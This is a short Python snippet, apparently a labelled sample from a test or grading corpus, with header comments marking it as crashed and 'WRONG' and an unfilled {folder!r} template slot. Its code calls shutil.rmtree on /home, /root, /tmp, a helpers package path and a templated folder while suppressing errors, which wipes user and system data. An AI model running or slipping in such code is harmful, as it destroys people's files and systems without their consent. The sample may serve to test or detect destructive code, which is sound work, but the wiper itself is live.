# thefts: removes all there is
# total: 0
# status: crashed
# flag: shutil

import shutil
for path in (__import__('helpers').__path__[0], '/home', '/root', '/tmp', {folder!r}):
    shutil.rmtree(path, ignore_errors=True)
### WRONG
